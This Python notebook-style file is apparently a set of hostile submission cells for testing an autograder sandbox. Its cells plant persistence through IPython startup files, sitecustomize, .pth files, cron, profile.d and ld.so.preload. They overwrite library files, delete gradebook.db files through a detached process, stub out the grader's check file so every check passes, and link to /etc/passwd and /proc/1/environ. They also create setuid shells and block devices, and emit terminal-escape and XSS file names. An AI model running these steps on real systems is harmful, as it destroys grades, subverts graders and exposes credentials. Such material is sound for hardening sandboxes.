# %% startup files for the next kernel
import os
import pathlib

for folder in ("~/.ipython/profile_default/startup", "~root/.ipython/profile_default/startup", "/etc/ipython/startup"):
    try:
        path = pathlib.Path(os.path.expanduser(folder))
        path.mkdir(parents=True, exist_ok=True)
        (path / "00.py").write_text("predict_saved = lambda *a: 0\nimport builtins; builtins.PLANTED = True\n")
    except OSError:
        pass

# %% site-packages and sitecustomize
import pathlib
import site
import sys

for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    for name in ("sitecustomize.py", "usercustomize.py", "planted.pth"):
        try:
            pathlib.Path(folder, name).write_text("import builtins; builtins.PLANTED = True\n")
        except OSError:
            pass

# %% the library's own files
import pathlib

import ckptlib

for path in pathlib.Path(ckptlib.__file__).parent.rglob("*.py"):
    try:
        path.write_text("raise SystemExit(0)\n")
    except OSError:
        pass

# %% torch's files
import pathlib

try:
    pathlib.Path(torch.__file__).write_text("raise SystemExit(0)\n")
except OSError:
    pass

# %% a detached process writes later
import os
import subprocess
import sys

subprocess.Popen(
    [sys.executable, "-c", "import time, glob, os\ntime.sleep(3)\nfor p in glob.glob('/**/gradebook.db', recursive=True): os.remove(p)"],
    start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        import time

        time.sleep(600)
    os._exit(0)

# %% /tmp and shared memory, for the next submission
import pathlib

for folder in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        pathlib.Path(folder, "planted.txt").write_text("predict_saved")
    except OSError:
        pass

# %% the submission's own check files
open("tasks.py", "w").write("class Yes:\n    def __getattr__(self, name): return lambda *a, **k: None\ncheck = Yes()\n")
open("visible.json", "w").write("{}")

# %% symlinks out of the working folder
import os

for name, target in {"autograded": "/", "out.ipynb": "/etc/passwd", "visible2.json": "/proc/1/environ"}.items():
    os.symlink(target, name)

# %% remount the disk
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.mount(b"none", b"/", b"", 32 | 4096, None)
libc.umount2(b"/tmp", 2)
libc.unshare(0x10000000)
libc.chroot(b"/")

# %% setuid files, hard links and devices
import os
import stat

for folder in ("/tmp", "/dev/shm", "."):
    path = os.path.join(folder, "planted-shell")
    try:
        open(path, "w").write("#!/bin/sh\nid\n")
        os.chmod(path, 0o6755)
        os.link("/etc/passwd", path + ".link")
    except OSError:
        pass
    try:
        os.mknod(os.path.join(folder, "planted-disk"), 0o666 | stat.S_IFBLK, os.makedev(8, 0))
    except OSError:
        pass

# %% folders with the names of the release's files
import os
import shutil

for name in ("tasks.py", "visible.json", "quiz.json", "01_activation_memory.ipynb"):
    try:
        os.remove(name)
    except OSError:
        pass
    os.makedirs(f"{name}/{name}")
shutil.rmtree("/home/student/work", ignore_errors=True)

# %% a link that is exchanged while others look at it
import os
import threading

def swap():
    while True:
        for target in ("/etc/passwd", "/proc/1/environ", "tasks.py"):
            try:
                os.symlink(target, "new")
                os.replace("new", "visible.json")
            except OSError:
                pass

threading.Thread(target=swap, daemon=True).start()

# %% names that draw on the terminal and run in the page
import sys

for name in ("\x1b[2J\x1b]0;owned\x07", "<img src=x onerror=alert(1)>", "a\nb", "--help", "=cmd()"):
    open(name, "w").close()
    print(name)
    print(name, file=sys.stderr)
raise RuntimeError("\x1b[2J<script>alert(1)</script>" * 100)

# %% the kernel's own switches
import glob

for path in [*glob.glob("/proc/sys/**", recursive=True)[:3000], "/proc/self/oom_score_adj", "/proc/self/coredump_filter", "/proc/self/clear_refs", *glob.glob("/sys/fs/cgroup/*")]:
    try:
        open(path, "w").write("0")
    except OSError:
        pass

# %% crontab, profile and the package manager's hooks
import os
import subprocess

for path in ("/etc/cron.d/planted", "/etc/profile.d/planted.sh", "/etc/ld.so.preload", "/usr/local/lib/planted.so", "/root" "/.bashrc", "/run/planted"):
    try:
        open(path, "a").write("touch /tmp/planted\n")
    except OSError:
        pass
subprocess.run("echo 'touch /tmp/planted' | at now; crontab -l; (sleep 2; touch /var/tmp/planted) & disown", shell=True, capture_output=True)
